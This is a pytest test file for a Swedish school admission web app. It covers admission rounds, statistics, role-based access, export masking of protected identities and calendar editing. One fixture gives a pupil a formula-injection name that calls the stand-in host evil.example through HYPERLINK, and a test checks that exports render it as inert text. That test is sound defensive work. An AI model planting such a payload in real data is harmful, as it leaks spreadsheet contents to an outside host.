"""The admission officer's and the analyst's part, through HTTP on a migrated SQLite file:
running and publishing rounds on the page and through the API, statistics with charts, exports
with protected identities masked, and nothing personal for the analyst.

The year: three offerings at two schools, five pupils with final grades; pupil 3 has protected
identity (``SECRET_NAME``).
"""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from datetime import UTC, date, datetime
from io import BytesIO
from pathlib import Path

import argon2
import openpyxl
import pytest
from database_fixtures import NewDatabase
from fastapi import FastAPI
from fastapi.testclient import TestClient
from httpx2 import Response
from sqlalchemy.orm import Session, sessionmaker
from web_support import api_headers, form_token, personal_id, signed_in

from samverka.admission.domain.applicants import ApplicantRecord, Guardian, PupilGrades
from samverka.admission.domain.calendar import AdmissionCalendar, GradeTerm, stockholm_calendar
from samverka.admission.domain.catalogue import (
    Catalogue,
    Municipality,
    Offering,
    Organiser,
    SchoolUnit,
)
from samverka.admission.domain.grades import SUBJECTS, Grade, GradeLetter
from samverka.admission.domain.rounds import RoundKind
from samverka.admission.domain.year_settings import YearSettings
from samverka.admission.services.admission_year import open_admission_year
from samverka.admission.services.applications import ChoiceRequest, register_applications
from samverka.admission.services.pupils import import_pupils
from samverka.admission.services.rounds import run_round
from samverka.config import Settings
from samverka.platform.access.domain.actors import Actor, Role
from samverka.platform.access.local_login import LocalLogin
from samverka.platform.access.passwords import Argon2idHasher
from samverka.platform.access.services.authentication import create_account
from samverka.platform.access.services.login_throttle import LoginThrottle
from samverka.platform.clock import FixedClock
from samverka.platform.domain.audit_snapshot import snapshot
from samverka.platform.domain.personal_id import parse_personal_id
from samverka.platform.web.i18n import LANGUAGE_COOKIE
from samverka.unit_of_work import SqlUnitOfWork
from samverka.web_app import create_app

YEAR = 2026
PASSWORD = "correct horse battery"
CREATED = datetime(YEAR, 1, 10, 9, tzinfo=UTC)
IN_APPLICATION_PERIOD = datetime(YEAR, 2, 1, 12, tzinfo=UTC)
AFTER_FINAL = datetime(YEAR, 7, 2, 12, tzinfo=UTC)
COMMAND_LINE = Actor("cli:test", Role.OFFICER, "command line")
CHEAP = Argon2idHasher(argon2.PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1))
PERSONAL_ID = re.compile(r"\d{8}-\d{4}")
SECRET_NAME = "Hemlig Person"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'  # pupil 2, from a pupil file
LETTERS = {1: "A", 2: "B", 3: "C", 4: "D", 5: "E"}
CHOICES = {
    1: ("NORRA-NA", "NORRA-EK"),
    2: ("NORRA-NA", "SODRA-ES"),
    3: ("NORRA-EK", "NORRA-NA"),
    4: ("NORRA-EK", "SODRA-ES"),
    5: ("NORRA-NA",),
}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# -- a small admission year, built through the services ------------------------------------------


def _pupil(serial: int, letter: str) -> PupilGrades:
    subjects = [s for s in SUBJECTS if s not in {"SVA", "M1", "M2", "ML", "TSP"}]
    record = ApplicantRecord(
        personal_id=parse_personal_id(personal_id(serial), today=date(YEAR, 2, 1)),
        name={3: SECRET_NAME, 2: HOSTILE_NAME}.get(serial, f"Elev {serial}"),
        home_municipality="0180",
        school_unit_code=None,
        protected_identity=serial == 3,
        guardians=(Guardian(f"Vårdnadshavare {serial}", f"vh{serial}@example.se"),),
    )
    return PupilGrades(
        record, GradeTerm.FINAL, tuple(Grade(s, GradeLetter(letter)) for s in subjects)
    )


def _build_year(uow: SqlUnitOfWork) -> None:
    catalogue = Catalogue(
        organisers=[
            Organiser("Stockholms stad", "municipal", "0180"),
            Organiser("Skolbolaget AB", "independent"),
        ],
        school_units=[
            SchoolUnit("11111111", "Norra gymnasiet", "Stockholms stad", "0180"),
            SchoolUnit("22222222", "Södra gymnasiet", "Skolbolaget AB", "0182"),
        ],
        offerings=[
            Offering("NORRA-NA", "11111111", "NA", 1),
            Offering("NORRA-EK", "11111111", "EK", 1),
            Offering("SODRA-ES", "22222222", "ES", 2),
        ],
    )
    open_admission_year(
        uow,
        year=YEAR,
        region="Storsthlm",
        calendar=stockholm_calendar(YEAR),
        settings=YearSettings(),
        municipalities=[
            Municipality("0180", "Stockholm", 975551),
            Municipality("0182", "Nacka", 105201),
        ],
        catalogue=catalogue,
        actor=COMMAND_LINE,
        now=datetime(YEAR, 1, 2, tzinfo=UTC),
    )
    pupils = [_pupil(serial, letter) for serial, letter in LETTERS.items()]
    import_pupils(uow, year=YEAR, pupils=pupils, actor=COMMAND_LINE, now=IN_APPLICATION_PERIOD)
    register_applications(
        uow,
        year=YEAR,
        applications={
            personal_id(n): [ChoiceRequest(code) for code in codes] for n, codes in CHOICES.items()
        },
        actor=COMMAND_LINE,
        by_admission_office=True,
        now=IN_APPLICATION_PERIOD,
    )


def _account(factory: sessionmaker[Session], username: str, role: Role) -> None:
    create_account(
        SqlUnitOfWork(factory),
        actor=COMMAND_LINE,
        username=username,
        display_name=username.title(),
        role=role,
        password=PASSWORD,
        passwords=CHEAP,
        now=CREATED,
    )


@pytest.fixture
def database(tmp_path: Path, new_sqlite_database: NewDatabase) -> sessionmaker[Session]:
    factory = new_sqlite_database(Settings(database_url=f"sqlite:///{tmp_path}/t.db"))
    _account(factory, "alva", Role.OFFICER)
    _account(factory, "anders", Role.ANALYST)
    _build_year(SqlUnitOfWork(factory))
    return factory


@pytest.fixture
def final_round(database: sessionmaker[Session]) -> int:
    """A stored, unpublished final round, run through the service."""
    summary = run_round(
        SqlUnitOfWork(database),
        year=YEAR,
        kind=RoundKind.FINAL,
        seed=7,
        actor=COMMAND_LINE,
        now=AFTER_FINAL,
    )
    return summary.round_id


@pytest.fixture
def clock() -> FixedClock:
    """The application's one clock, standing after the final round until a test moves it."""
    return FixedClock(AFTER_FINAL)


@pytest.fixture
def app(tmp_path: Path, database: sessionmaker[Session], clock: FixedClock) -> FastAPI:
    settings = Settings(database_url=f"sqlite:///{tmp_path}/t.db")
    login = LocalLogin(lambda: SqlUnitOfWork(database), CHEAP, LoginThrottle(clock=lambda: CREATED))
    return create_app(settings, session_factory=database, authenticator=login, clock=clock)


@pytest.fixture
def officer(app: FastAPI) -> Iterator[TestClient]:
    yield from signed_in(app, "alva", PASSWORD)


@pytest.fixture
def analyst(app: FastAPI) -> Iterator[TestClient]:
    yield from signed_in(app, "anders", PASSWORD)


def _run_on_the_page(client: TestClient, kind: str, seed: int | str = 7) -> Response:
    """Start a run with the form and follow its status page until the run is done."""
    data = {"kind": kind, "seed": str(seed), "csrf_token": form_token(client, "/antagning")}
    started = client.post("/antagning/korningar", data=data, follow_redirects=False)
    assert started.status_code == 303, started.text
    deadline = time.monotonic() + 60
    while True:
        status = client.get(started.headers["location"])
        assert status.status_code == 200
        if "Refresh" not in status.headers or time.monotonic() > deadline:
            return status
        assert "Omgången körs" in status.text
        time.sleep(0.1)


def _round_id(page: Response) -> int:
    found = re.search(r"Omgång (\d+) \(", page.text)
    assert found is not None, page.text
    return int(found.group(1))


# -- the officer on the pages -------------------------------------------------------------------
def test_the_officer_runs_a_final_round_on_the_page_and_publishes_it(
    officer: TestClient,
) -> None:
    done = _run_on_the_page(officer, "final")
    assert "Körningen är klar" in done.text
    round_id = _round_id(done)
    assert "slutlig" in done.text
    listed = officer.get("/antagning")
    assert f'href="/antagning/omgangar/{round_id}/publicera"' in listed.text  # asks first
    token = form_token(officer, "/antagning")
    published = officer.post(
        f"/antagning/omgangar/{round_id}/publicera",
        data={"csrf_token": token, "confirmed": "ja"},
        follow_redirects=False,
    )
    assert published.status_code == 303
    after = officer.get(published.headers["location"])
    assert f"Omgång {round_id} är publicerad." in after.text
    assert f'href="/antagning/omgangar/{round_id}/publicera"' not in after.text


def test_a_round_run_started_on_one_worker_is_followed_to_its_result_on_another(
    app: FastAPI, officer: TestClient, tmp_path: Path, database: sessionmaker[Session]
) -> None:
    """Two applications on one database stand for two worker processes: the job is stored in
    the database, so the other worker shows its progress and its result (issue 15, point 13)."""
    settings = Settings(database_url=f"sqlite:///{tmp_path}/t.db")
    login = LocalLogin(lambda: SqlUnitOfWork(database), CHEAP, LoginThrottle(clock=lambda: CREATED))
    other_worker = create_app(settings, session_factory=database, authenticator=login)
    data = {"kind": "final", "seed": "7", "csrf_token": form_token(officer, "/antagning")}
    started = officer.post("/antagning/korningar", data=data, follow_redirects=False)
    assert started.status_code == 303
    for other in signed_in(other_worker, "alva", PASSWORD):
        deadline = time.monotonic() + 60
        status = other.get(started.headers["location"])
        while "Refresh" in status.headers and time.monotonic() < deadline:
            assert "Omgången körs" in status.text
            time.sleep(0.1)
            status = other.get(started.headers["location"])
        assert "Körningen är klar" in status.text, status.text
        assert _round_id(status) > 0
        assert "slutlig" in status.text
        assert other.get("/antagning/korningar/0123456789abcdef").status_code == 404


def test_publishing_a_published_round_on_the_page_is_refused_with_409(
    officer: TestClient, final_round: int
) -> None:
    path = f"/antagning/omgangar/{final_round}/publicera"
    form = {"csrf_token": form_token(officer, "/antagning"), "confirmed": "ja"}
    assert officer.post(path, data=form).status_code == 200  # redirected
    again = officer.post(path, data=form)
    assert again.status_code == 409
    assert "Det gick inte att genomföra" in again.text


def test_a_form_without_the_csrf_token_changes_nothing(
    officer: TestClient, final_round: int
) -> None:
    refused = officer.post(f"/antagning/omgangar/{final_round}/publicera", data={})
    assert refused.status_code == 403
    assert "publicera" in officer.get("/antagning").text


def test_a_run_that_fails_shows_why_on_its_status_page(officer: TestClient) -> None:
    failed = _run_on_the_page(officer, "reserve")  # no published final round yet
    assert "Körningen misslyckades" in failed.text
    assert "En reservomgång kräver en publicerad slutlig antagning" in failed.text


def test_a_run_that_breaks_unexpectedly_says_so_in_swedish_and_never_the_exception(
    officer: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*arguments: object, **named: object) -> object:
        raise RuntimeError("connection reset by peer at /var/lib/db")

    monkeypatch.setattr("samverka.admission.web.officer.run_round", broken)
    failed = _run_on_the_page(officer, "final")
    assert "Körningen misslyckades" in failed.text
    assert "Något gick fel hos oss" in failed.text
    assert "connection reset" not in failed.text
    officer.cookies.set(LANGUAGE_COOKIE, "en")
    try:
        english = officer.get(str(failed.url))
    finally:
        officer.cookies.delete(LANGUAGE_COOKIE)
    assert "Something went wrong on our side" in english.text, english.text
    assert "connection reset" not in english.text


def test_a_bad_seed_is_refused_before_anything_runs(officer: TestClient) -> None:
    data = {"kind": "final", "seed": "many", "csrf_token": form_token(officer, "/antagning")}
    assert officer.post("/antagning/korningar", data=data).status_code == 422
    assert "Inga omgångar är körda ännu." in officer.get("/antagning").text


def test_a_refused_run_comes_back_as_the_rounds_page_with_the_seed_kept_at_its_field(
    officer: TestClient,
) -> None:
    data = {"kind": "simulation", "seed": "många", "_page": "/antagning", "_form": "korning"}
    data["csrf_token"] = form_token(officer, "/antagning")

    refused = officer.post("/antagning/korningar", data=data)

    assert refused.status_code == 422
    page = refused.text
    assert "Antagningsomgångar 2026" in page
    assert "Uppgifterna behöver rättas" in page
    assert '<a href="#korning-seed">Skriv ett heltal.</a>' in page
    assert 'id="korning-seed-fel"' in page
    assert 'name="seed" type="text" value="många"' in page
    assert '<option value="simulation" selected>' in page
    assert "Inga omgångar är körda ännu." in page  # nothing ran


# -- the officer through the API ----------------------------------------------------------------
def test_the_officer_runs_and_publishes_a_final_round_through_the_api(
    officer: TestClient,
) -> None:
    headers = api_headers(officer)
    run = officer.post("/api/v1/rounds", json={"kind": "final", "seed": 7}, headers=headers)
    assert run.status_code == 201, run.text
    summary = run.json()
    assert (summary["kind"], summary["applicants"]) == ("final", 5)
    round_id = summary["round_id"]
    listed = officer.get("/api/v1/rounds").json()
    assert listed["total"] == 1
    assert (listed["items"][0]["id"], listed["items"][0]["status"]) == (round_id, "stored")
    published = officer.post(f"/api/v1/rounds/{round_id}/publish", headers=headers)
    assert published.json() == {"round_id": round_id, "status": "published"}
    again = officer.post(f"/api/v1/rounds/{round_id}/publish", headers=headers)
    assert again.status_code == 409
    assert again.json()["error"]["code"] == "conflict"
    assert officer.get("/api/v1/rounds").json()["items"][0]["status"] == "published"


def test_a_simulation_can_never_be_published(officer: TestClient) -> None:
    headers = api_headers(officer)
    run = officer.post("/api/v1/rounds", json={"kind": "simulation", "seed": 3}, headers=headers)
    round_id = run.json()["round_id"]
    refused = officer.post(f"/api/v1/rounds/{round_id}/publish", headers=headers)
    assert refused.status_code == 409
    assert "simulering" in refused.json()["error"]["message"]
    assert "publicera" not in officer.get("/antagning").text.split("Lagrade omgångar")[1]


@pytest.mark.parametrize(
    "body",
    [{"kind": "lottery", "seed": 1}, {"kind": "final", "seed": -1}, {"kind": "final"}, {}],
    ids=["unknown kind", "negative seed", "no seed", "nothing"],
)
def test_a_bad_run_request_is_refused_with_422_and_runs_nothing(
    officer: TestClient, body: dict[str, object]
) -> None:
    refused = officer.post("/api/v1/rounds", json=body, headers=api_headers(officer))
    assert refused.status_code == 422
    assert refused.json()["error"]["code"] == "invalid_input"
    assert officer.get("/api/v1/rounds").json()["total"] == 0


def test_publishing_an_unknown_round_is_404_and_without_the_token_403(
    officer: TestClient,
) -> None:
    assert (
        officer.post("/api/v1/rounds/999/publish", headers=api_headers(officer)).status_code == 404
    )
    assert officer.post("/api/v1/rounds", json={"kind": "final", "seed": 1}).status_code == 403


# -- statistics ---------------------------------------------------------------------------------
def test_the_statistics_page_shows_the_totals_the_table_and_three_accessible_charts(
    officer: TestClient, final_round: int
) -> None:
    page = officer.get("/statistik", params={"round": final_round})
    assert page.status_code == 200
    assert page.text.count('role="img"') == 3
    for chart in ("chart-cutoffs", "chart-per-place", "chart-first-choice"):
        assert f'<svg xmlns="http://www.w3.org/2000/svg" id="{chart}"' in page.text
    assert '<title id="chart-cutoffs-title">Antagningsgränser per program</title>' in page.text
    assert '<caption id="programmes-caption">' in page.text
    assert '<th scope="row">NA</th>' in page.text
    assert "Sökande" in page.text


def test_the_statistics_page_is_in_english_on_request(
    officer: TestClient, final_round: int
) -> None:
    officer.get("/sprak/en")
    page = officer.get("/statistik")
    assert "Cut-off scores by programme" in page.text
    assert "Antagningsgränser" not in page.text


def test_the_api_gives_the_statistics_of_the_default_or_a_chosen_round(
    officer: TestClient, final_round: int
) -> None:
    report = officer.get("/api/v1/statistics").json()
    assert report["round_id"] == final_round
    assert report["totals"]["applicants"] == 5
    assert [p["key"] for p in report["programmes"]] == ["EK", "ES", "NA"]
    assert officer.get("/api/v1/statistics", params={"round": 999}).status_code == 404


# -- the analyst --------------------------------------------------------------------------------
def test_the_analyst_sees_statistics_but_nothing_personal(
    analyst: TestClient, final_round: int
) -> None:
    received = [
        analyst.get("/statistik"),
        analyst.get("/statistik", params={"round": final_round}),
        analyst.get("/api/v1/statistics"),
        analyst.get("/api/v1/statistics", params={"round": final_round}),
    ]
    assert [response.status_code for response in received] == [200, 200, 200, 200]
    assert 'role="img"' in received[0].text
    for response in received:
        assert PERSONAL_ID.search(response.text) is None
        assert SECRET_NAME not in response.text
        assert "Elev 1" not in response.text


def test_the_analyst_downloads_the_statistics_pages_table_per_programme_and_nothing_personal(
    analyst: TestClient, final_round: int
) -> None:
    page = analyst.get("/statistik", params={"round": final_round})
    assert f'href="/statistik/export?round={final_round}&amp;format=xlsx"' in page.text
    response = analyst.get("/statistik/export", params={"round": final_round, "format": "xlsx"})
    assert response.status_code == 200
    assert "statistik-per-program.xlsx" in response.headers["content-disposition"]
    sheet = openpyxl.load_workbook(BytesIO(response.content)).active
    assert sheet is not None
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert sheet.title == "Statistik"
    assert rows[0][:3] == ["Program", "Utbildningar", "Platser"]
    assert [row[0] for row in rows[1:]] == ["EK", "ES", "NA"]
    with_csv = analyst.get("/statistik/export", params={"round": final_round})
    assert with_csv.headers["content-disposition"].endswith(".csv")
    for text in (with_csv.text, str(rows)):
        assert PERSONAL_ID.search(text) is None
        assert SECRET_NAME not in text
    assert analyst.get("/statistik/export", params={"round": 999}).status_code == 404


def test_the_analyst_may_not_see_or_run_rounds_or_export(
    analyst: TestClient, final_round: int
) -> None:
    headers = api_headers(analyst)
    token = form_token(analyst, "/")
    refused = [
        analyst.get("/antagning"),
        analyst.get("/antagning/korningar/anything"),
        analyst.post(
            "/antagning/korningar", data={"kind": "final", "seed": "1", "csrf_token": token}
        ),
        analyst.post(f"/antagning/omgangar/{final_round}/publicera", data={"csrf_token": token}),
        analyst.get("/antagning/export", params={"round": final_round, "what": "placements"}),
        analyst.get("/api/v1/rounds"),
        analyst.post("/api/v1/rounds", json={"kind": "final", "seed": 1}, headers=headers),
        analyst.post(f"/api/v1/rounds/{final_round}/publish", headers=headers),
    ]
    assert [response.status_code for response in refused] == [403] * len(refused)
    for response in refused:
        assert PERSONAL_ID.search(response.text) is None


def test_nobody_signed_in_is_asked_to_sign_in(app: FastAPI) -> None:
    with TestClient(app) as client:
        assert client.get("/statistik").status_code == 401
        assert client.get("/api/v1/statistics").status_code == 401
        assert client.get("/antagning").status_code == 401


# -- exports ------------------------------------------------------------------------------------
def _export(
    client: TestClient, round_id: int, what: str, file_format: str, **more: str
) -> Response:
    params = {"round": str(round_id), "what": what, "format": file_format, **more}
    return client.get("/antagning/export", params=params)


def test_the_officer_downloads_the_admitted_as_csv_with_protected_identities_masked(
    officer: TestClient, final_round: int
) -> None:
    masked = _export(officer, final_round, "placements", "csv")
    assert masked.status_code == 200
    assert masked.headers["content-type"].startswith("text/csv")
    assert "attachment" in masked.headers["content-disposition"]
    assert "Skyddad identitet" in masked.text
    assert SECRET_NAME not in masked.text
    assert personal_id(3) not in masked.text
    assert personal_id(1) in masked.text
    shown = _export(officer, final_round, "placements", "csv", show_protected="1")
    assert SECRET_NAME in shown.text
    assert personal_id(3) in shown.text


def test_the_officer_downloads_reserves_and_statistics_as_xlsx(
    officer: TestClient, final_round: int
) -> None:
    for what in ("reserves", "statistics", "placements"):
        download = _export(officer, final_round, what, "xlsx")
        assert download.status_code == 200
        assert download.headers["content-type"] == XLSX
        sheet = openpyxl.load_workbook(BytesIO(download.content)).active
        cells = [str(cell) for row in sheet.iter_rows(values_only=True) for cell in row]
        assert SECRET_NAME not in cells
        assert personal_id(3) not in cells
    statistics = _export(officer, final_round, "statistics", "xlsx")
    sheet = openpyxl.load_workbook(BytesIO(statistics.content)).active
    assert [cell.value for cell in sheet[1]][:2] == ["Utbildningskod", "Skolenhet"]


def test_a_pupil_named_like_a_formula_is_exported_as_text_in_csv_and_xlsx(
    officer: TestClient, final_round: int
) -> None:
    """Issue 11 point 11: a name from a counsellor's file never runs as a formula in the
    officer's spreadsheet (OWASP, "CSV Injection")."""
    download = _export(officer, final_round, "placements", "csv")
    rows = list(csv.reader(io.StringIO(download.text, newline=""), delimiter=";"))
    names = [cell for row in rows for cell in row if "HYPERLINK" in cell]
    assert names == ["'" + HOSTILE_NAME]

    workbook = _export(officer, final_round, "placements", "xlsx")
    sheet = openpyxl.load_workbook(BytesIO(workbook.content)).active
    [cell] = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE_NAME]
    assert (cell.data_type, cell.quotePrefix) == ("s", True)


def test_an_export_of_an_unknown_round_or_kind_is_refused(
    officer: TestClient, final_round: int
) -> None:
    assert _export(officer, 999, "placements", "csv").status_code == 404
    assert _export(officer, final_round, "everything", "csv").status_code == 422
    assert _export(officer, final_round, "placements", "pdf").status_code == 422


# -- the calendar: opening, closing and moving the windows --------------------------------------
def _calendar_form(client: TestClient, **changes: str) -> dict[str, str]:
    page = client.get("/antagning/kalender")
    assert page.status_code == 200
    names = re.findall(r'name="(\w+)"[^>]*value="([^"]*)"', page.text)
    form = {name: value for name, value in names if name != "csrf_token"}
    return {**form, **changes, "csrf_token": form_token(client, "/antagning/kalender")}


def _stored_calendar(database: sessionmaker[Session]) -> dict[str, object]:
    with SqlUnitOfWork(database) as uow:
        return uow.admission.year(YEAR).calendar.to_dict()


def test_the_officer_sees_the_calendar_in_swedish_time_and_whether_each_window_is_open(
    officer: TestClient,
) -> None:
    page = officer.get("/antagning/kalender")
    assert page.status_code == 200
    # stockholm_calendar: applications from 15 January 00:00 to 15 February 23:59 in Sweden.
    assert 'name="application_opens" type="datetime-local" value="2026-01-15T00:00"' in page.text
    assert 'name="application_closes" type="datetime-local" value="2026-02-15T23:59"' in page.text
    assert 'name="choice_change_closes" type="datetime-local" value="2026-05-15T23:59"' in page.text
    assert "Ansökan är stängd just nu." in page.text
    assert 'value="2026-08-01 2026-08-15"' in page.text


def test_the_officer_moves_the_application_period_and_the_audit_trail_has_both_calendars(
    officer: TestClient, database: sessionmaker[Session]
) -> None:
    before = _stored_calendar(database)
    form = _calendar_form(officer, application_closes="2026-02-20T23:59")
    answer = officer.post("/antagning/kalender", data=form, follow_redirects=False)
    assert answer.status_code == 303
    assert "Kalendern är sparad." in officer.get(answer.headers["location"]).text
    after = _stored_calendar(database)
    # open to 20 February 23:59 inclusive: the stored exclusive end is 21 February 00:00 (CET)
    assert after["application"] == [before["application"][0], "2026-02-20T23:00:00+00:00"]  # type: ignore[index]
    with SqlUnitOfWork(database) as uow:
        [event] = [
            e for e in uow.audit.events("admission_year") if e["action"] == "change_calendar"
        ]
    audited = [snapshot(AdmissionCalendar.from_dict(c)) for c in (before, after)]
    assert [event["actor"], event["before"], event["after"]] == ["officer:alva", *audited]


def test_a_calendar_out_of_order_or_unreadable_is_shown_again_and_changes_nothing(
    officer: TestClient, database: sessionmaker[Session]
) -> None:
    before = _stored_calendar(database)
    wrong_order = _calendar_form(officer, final_round="2026-03-01")
    answer = officer.post("/antagning/kalender", data=wrong_order)
    assert answer.status_code == 422
    assert "Datumen är inte i ordning" in answer.text
    unreadable = _calendar_form(officer, application_opens="snart", reserve_rounds="2026-13-01")
    answer = officer.post("/antagning/kalender", data=unreadable)
    assert answer.status_code == 422
    page = answer.text
    assert '<a href="#application_opens">snart är ingen tidpunkt' in page  # at its field
    assert 'id="application_opens-fel"' in page
    assert 'name="application_opens" type="datetime-local" value="snart"' in page  # kept
    assert '<a href="#reserve_rounds">2026-13-01 är inget datum' in page
    assert "Kalendern är sparad." not in page
    assert _stored_calendar(database) == before
    officer.get("/sprak/en")
    english = officer.post("/antagning/kalender", data=unreadable)
    assert "snart is not a moment" in english.text


def test_the_calendar_api_reads_and_replaces_the_windows_and_refuses_what_is_out_of_order(
    officer: TestClient, database: sessionmaker[Session]
) -> None:
    calendar = officer.get("/api/v1/calendar").json()
    assert calendar["year"] == YEAR
    assert calendar["application_opens"] == "2026-01-15T00:00:00+01:00"  # in Swedish time
    assert calendar["application_closes"] == "2026-02-16T00:00:00+01:00"  # the end of 15 February
    assert calendar["application_last_day"] == "2026-02-15"
    headers = api_headers(officer)
    moved = {**calendar, "choice_change_closes": "2026-05-20T12:00:00+02:00"}
    answer = officer.put("/api/v1/calendar", json=moved, headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.json()["choice_change_closes"] == "2026-05-20T12:00:00+02:00"
    stored = _stored_calendar(database)
    for wrong in (
        {**moved, "reply_deadline": "2026-06-01"},  # before the final round
        {**moved, "application_closes": "2026-01-01T00:00:00Z"},  # before it opens
        {**moved, "application_opens": "2026-01-15T00:00:00"},  # no time zone
    ):
        refused = officer.put("/api/v1/calendar", json=wrong, headers=headers)
        assert refused.status_code == 422, refused.text
        assert refused.json()["error"]["code"] in {"invalid_input", "validation_error"}
    wrong = {**moved, "reply_deadline": "2026-06-01"}
    late = officer.put("/api/v1/calendar", json=wrong, headers=headers)
    (row,) = late.json()["error"]["rows"]
    assert row["reason"] == (
        "Preliminär antagning, slutlig antagning och sista svarsdag ska komma i den ordningen."
    )
    assert _stored_calendar(database) == stored


@pytest.mark.parametrize(
    ("moment", "shown"),
    [
        (datetime(YEAR, 2, 15, 22, 30, tzinfo=UTC), "Ansökan är öppen just nu."),  # 23:30 in Sweden
        (datetime(YEAR, 2, 15, 23, 30, tzinfo=UTC), "Ansökan är stängd just nu."),  # 00:30, 16 Feb
        (datetime(YEAR, 5, 15, 21, 30, tzinfo=UTC), "Omvalet är öppet just nu."),  # 23:30 CEST
        (datetime(YEAR, 5, 15, 22, 30, tzinfo=UTC), "Omvalet är stängt just nu."),  # 00:30, 16 May
    ],
)
def test_a_window_that_closes_on_a_day_is_open_until_2359_of_that_day_in_sweden(
    officer: TestClient, clock: FixedClock, moment: datetime, shown: str
) -> None:
    """Issue 12 point 12, admissions-rules §4.1 (application closes "15 Feb 23:59"): the
    default calendar used to close at 01:00 Swedish time on 15 February (00:00 UTC)."""
    clock.set(moment)
    assert shown in officer.get("/antagning/kalender").text


def test_the_admitted_list_speaks_swedish_and_names_school_programme_and_home_municipality(
    officer: TestClient, final_round: int
) -> None:
    """Issue 15 point 1: Swedish columns and values, names beside codes, one named sheet; the
    masked entry hides the home municipality too."""
    for shown in ("0", "1"):
        download = _export(officer, final_round, "placements", "xlsx", show_protected=shown)
        workbook = openpyxl.load_workbook(BytesIO(download.content))
        assert workbook.sheetnames == ["Antagna"]
        header, *rows = list(workbook["Antagna"].iter_rows(values_only=True))
        for column in ("Personnummer", "Namn", "Hemkommun", "Skolenhet", "Program"):
            assert column in header
        for column in ("Utbildningskod", "Programnamn", "Meritvärde", "Status"):
            assert column in header
        records = [dict(zip(header, row, strict=True)) for row in rows]
        assert records
        assert {r["Status"] for r in records} <= {"Antagen", "Antagen inom fri kvot"}
        masked = [r for r in records if r["Namn"] == "Skyddad identitet"]
        assert bool(masked) == (shown == "0")
        for record in masked:
            assert (record["Personnummer"], record["Hemkommunkod"], record["Hemkommun"]) == (
                None,
                None,
                None,
            )
            assert record["Skyddad identitet"] == "Ja"
        for record in (r for r in records if r not in masked):
            assert (record["Hemkommunkod"], record["Hemkommun"]) == ("0180", "Stockholm")
        names = {(r["Utbildningskod"], r["Skolenhet"], r["Programnamn"]) for r in records}
        assert ("NORRA-NA", "Norra gymnasiet", "Naturvetenskapsprogrammet") in names
        assert all(isinstance(r["Meritvärde"], float) for r in records)  # a number, not text


def test_the_csv_for_swedish_excel_writes_merit_values_with_a_decimal_comma(
    officer: TestClient, final_round: int
) -> None:
    download = _export(officer, final_round, "reserves", "csv")
    assert download.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(download.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Utbildningskod", "Skolenhetskod", "Skolenhet"]
    merit = rows[0].index("Meritvärde")
    assert rows[1:]
    assert all("," in row[merit] and "." not in row[merit] for row in rows[1:])
    assert {row[rows[0].index("Status")] for row in rows[1:]} == {"Reserv"}


def test_the_english_page_language_gives_english_column_names(
    officer: TestClient, final_round: int
) -> None:
    officer.cookies.set(LANGUAGE_COOKIE, "en")
    try:
        download = _export(officer, final_round, "placements", "xlsx")
    finally:
        officer.cookies.delete(LANGUAGE_COOKIE)
    workbook = openpyxl.load_workbook(BytesIO(download.content))
    assert workbook.sheetnames == ["Admitted"]
    header = next(workbook["Admitted"].iter_rows(values_only=True))
    assert header[:3] == ("Offering code", "School unit code", "School unit")
    assert "Merit value" in header
    assert "Personal identity number" in header
